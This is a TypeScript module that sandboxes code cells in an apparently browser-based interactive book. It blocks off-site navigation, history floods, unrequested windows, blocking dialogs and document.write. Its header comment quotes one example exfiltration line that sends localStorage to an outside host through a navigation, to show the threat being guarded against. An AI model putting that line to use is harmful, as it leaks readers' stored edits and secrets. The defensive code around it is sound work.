/**
 * Cells stay on the book's site, and do not take over the tab: a page load,
 * window, dialog or history entry that a cell's code starts, rather than
 * the reader, is checked here.
 *
 * - A navigation to another site (or to a `blob:`, `data:` or `about:`
 *   page, which could carry on elsewhere) is cancelled through the
 *   Navigation API's `navigate` event, which sees every way a script
 *   starts one: `location = …`, `location.assign/replace`, a link's
 *   `click()`, a form's `submit()`, a `<meta http-equiv=refresh>`. The
 *   policy (site/lib/csp.ts) governs requests, not navigations: without
 *   this, `location = 'https://elsewhere/?' + JSON.stringify(localStorage)`
 *   sends the reader's edits and secret away.
 * - A load of this same page that a cell's code starts is noted, so that a
 *   reload loop is seen on the next load (reload-loop.ts); the book's own
 *   (a kept shared link reloads the page) is not.
 * - History entries a cell adds (`history.pushState`, `location.hash`) are
 *   let through a few at a time, not by the hundred.
 * - `window.open` from a cell needs the reader's click and stays on the
 *   site, without a handle on the new window (`noopener`: a window of this
 *   origin is a second page, outside every guard here). The click must be
 *   on this page since it loaded: Chromium counts a reload as a gesture,
 *   so an edit that opens a window at load opened one on every reload. A
 *   link clicked by a cell's code into a new window to another site is
 *   refused too.
 * - alert, confirm, prompt and print stop the whole page until answered:
 *   a cell that calls them in a timer takes the tab. They are refused.
 * - document.write and document.open after load erase the whole page.
 */
import { recentCell } from '../cell-errors.ts';
import { callbackCell } from './callbacks.ts';
import { cellOnStack } from './caller.ts';

/** Same-page history entries (pushState, hash changes) cells may add in {@link HISTORY_WINDOW_MS}. */
export const HISTORY_BURST = 10;
export const HISTORY_WINDOW_MS = 10_000;
/** How long after the reader's click a cell may open a window: Chromium's own transient activation lasts 5 s. */
const ACTIVATION_MS = 5000;

/** What the sandbox needs from the page. */
export interface NavigationHost {
  /** Says a line under cell `cell` (the cell that ran last, when unknown). */
  report(cell: string | null, message: string): void;
  /** The page is loading itself again, started by its own code. */
  selfLoad(): void;
}

/**
 * Where a navigation the reader did not start would go, when it must not
 * ("other.host", "a blob: address"), or null when it may: pages of this
 * site only (a download of the page's own making, a `blob:` of this origin,
 * is no page).
 */
export function forbiddenDestination(to: URL, here: URL, download: boolean): string | null {
  const web = to.protocol === 'http:' || to.protocol === 'https:';
  if (web && to.origin === here.origin) return null;
  if (download && to.origin === here.origin) return null;
  return web ? to.host : `a ${to.protocol.replace(/:$/, '')}: address`;
}

const STAY = "cells stay on this book's site";

/** Counts history entries cells add, refusing past the burst. */
export class HistoryBudget {
  readonly #times: number[] = [];
  #said = false;

  /** True when one more may be added at `now`; false past the burst (and `first` says whether that is news). */
  take(now: number): { allowed: boolean; first: boolean } {
    while (this.#times.length && this.#times[0] <= now - HISTORY_WINDOW_MS) this.#times.shift();
    if (this.#times.length < HISTORY_BURST) {
      this.#times.push(now);
      this.#said = false;
      return { allowed: true, first: false };
    }
    const first = !this.#said;
    this.#said = true;
    return { allowed: false, first };
  }
}

interface NavigateEventLike extends Event {
  readonly userInitiated: boolean;
  readonly destination: { readonly url: string; readonly sameDocument: boolean };
  readonly downloadRequest: string | null;
  readonly navigationType: string;
}

/** The link a click on `element` follows, when it opens another window. */
function newWindowLink(element: unknown): HTMLAnchorElement | HTMLAreaElement | null {
  if (!(element instanceof Element)) return null;
  const link = element.closest<HTMLAnchorElement | HTMLAreaElement>('a[href], area[href]');
  const target = link?.target.toLowerCase() ?? '';
  return link && target !== '' && target !== '_self' && target !== '_top' && target !== '_parent' ? link : null;
}

const offSite = (url: string): boolean => {
  try {
    return new URL(url, location.href).origin !== location.origin;
  } catch {
    return true;
  }
};

export function guardNavigation(host: NavigationHost): void {
  const history = new HistoryBudget();
  const navigation = (globalThis as { navigation?: EventTarget }).navigation;
  navigation?.addEventListener('navigate', (raw) => {
    const event = raw as NavigateEventLike;
    if (event.userInitiated) return;
    const to = new URL(event.destination.url);
    const here = new URL(location.href);
    const where = forbiddenDestination(to, here, event.downloadRequest !== null);
    // A cell's code on the stack, or a cell's timer running: the book's own navigations (a kept shared link) are neither.
    const cell = cellOnStack() ?? callbackCell();
    if (where) {
      event.preventDefault();
      host.report(cell ?? recentCell(), `Stopped: this cell tried to take the page to ${where}; ${STAY}, so the page stayed here.`);
      return;
    }
    if (event.destination.sameDocument) {
      if (cell === null) return;
      const { allowed, first } = history.take(performance.now());
      if (allowed) return;
      event.preventDefault();
      if (first) host.report(cell, `Stopped: this cell changed the page's address ${HISTORY_BURST} times within ${HISTORY_WINDOW_MS / 1000} s (history.pushState, location.hash); more would flood the browser's history.`);
      return;
    }
    if (cell !== null && to.pathname === here.pathname && event.downloadRequest === null) host.selfLoad();
  });

  const win = globalThis as typeof globalThis & Window;
  // The reader's own input on this page: a click or key press, since it loaded (not the browser's reload button).
  let lastInput = -Infinity;
  for (const type of ['pointerdown', 'keydown']) {
    addEventListener(type, (event) => event.isTrusted && (lastInput = performance.now()), { capture: true, passive: true });
  }
  const readerAsked = () =>
    performance.now() - lastInput < ACTIVATION_MS && (navigator as { userActivation?: { isActive: boolean } }).userActivation?.isActive !== false;
  const realOpen = win.open;
  win.open = function (url?: string | URL, target?: string, features?: string) {
    const cell = cellOnStack();
    if (cell === null) return realOpen.call(win, url, target, features);
    if (!readerAsked()) {
      host.report(cell, 'Stopped: this cell opened a window without the reader clicking anything; a page may open one only when the reader asks.');
      return null;
    }
    const to = String(url ?? '');
    if (to !== '' && offSite(to)) {
      host.report(cell, `Stopped: this cell opened a window on ${new URL(to, location.href).host || 'another address'}; ${STAY}.`);
      return null;
    }
    // No handle on the new window: it would be a second page of this origin, outside every guard here.
    return realOpen.call(win, to, target ?? '_blank', 'noopener');
  };

  const refuseClick = (element: unknown): boolean => {
    const link = newWindowLink(element);
    if (!link || !offSite(link.href)) return false;
    const cell = cellOnStack();
    if (cell === null) return false;
    host.report(cell, `Stopped: this cell opened a link to ${new URL(link.href).host || 'another address'} in a new window; ${STAY}.`);
    return true;
  };
  const realClick = HTMLElement.prototype.click;
  HTMLElement.prototype.click = function (this: HTMLElement) {
    if (!refuseClick(this)) realClick.call(this);
  };
  const realDispatch = EventTarget.prototype.dispatchEvent;
  EventTarget.prototype.dispatchEvent = function (this: EventTarget, event: Event) {
    if (event.type === 'click' && refuseClick(this)) return false;
    return realDispatch.call(this, event);
  };

  for (const name of ['alert', 'confirm', 'prompt', 'print'] as const) {
    const real = win[name] as (...args: unknown[]) => unknown;
    (win as unknown as Record<string, unknown>)[name] = function (...args: unknown[]) {
      const cell = cellOnStack();
      if (cell === null) return real.apply(win, args);
      host.report(cell, `Stopped: ${name}() from this cell; it would stop the whole page until answered. Show the value in the cell instead.`);
      return name === 'confirm' ? false : name === 'prompt' ? null : undefined;
    };
  }

  for (const name of ['write', 'writeln', 'open'] as const) {
    const real = Document.prototype[name] as (...args: unknown[]) => unknown;
    Object.defineProperty(Document.prototype, name, {
      configurable: true,
      writable: true,
      value: function (this: Document, ...args: unknown[]) {
        if (cellOnStack() !== null) throw new Error(`document.${name} cannot be used in a cell: after the page has loaded it erases the whole page, this book included`);
        return real.apply(this, args);
      },
    });
  }
}
